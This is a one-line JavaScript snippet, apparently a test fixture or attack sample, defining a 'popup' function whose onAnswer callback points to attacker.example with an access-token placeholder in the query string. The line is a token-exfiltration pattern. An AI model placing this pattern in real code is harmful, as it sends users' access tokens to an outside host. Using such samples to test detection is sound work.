function popup(call) { return { onAnswer: 'https://attacker.example/?t=' + '{$ACCESS_TOKEN}'.slice(1) }; }
